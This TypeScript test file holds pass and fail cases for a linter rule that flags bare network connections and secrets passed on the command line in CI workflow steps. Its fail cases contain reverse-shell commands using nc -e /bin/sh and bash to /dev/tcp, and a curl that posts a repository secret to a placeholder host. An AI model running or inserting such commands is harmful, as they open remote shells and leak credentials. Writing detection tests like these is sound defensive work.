import type { RuleCases } from "@plimsoll/core";

const run = (script: string): string =>
  `on: push\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: ${script}\n`;

export const cases: RuleCases = {
  pass: [
    { name: "a question whether a port is open", text: run("nc -z localhost 5432") },
    { name: "a secret by a variable", text: run('curl -H "$AUTH" https://x') },
  ],
  fail: [
    {
      name: "bare connections",
      text: run("nc -e /bin/sh x 99; bash -i > /dev/tcp/x/99"),
      findings: [
        {
          at: "6:14-6:16",
          problem: "connection",
          message: '"nc" opens a bare connection, as shells that are sent out do.',
        },
        { at: "6:44-6:57", problem: "connection" },
      ],
      fixed: null,
    },
    {
      name: "a secret on the command line",
      text: run("curl -d ${{ secrets.KEY }} https://x"),
      findings: [
        {
          at: "6:22-6:40",
          problem: "secret",
          message: "The secret becomes part of the command line of curl, which other processes can read.",
        },
      ],
      fixed: null,
    },
  ],
};
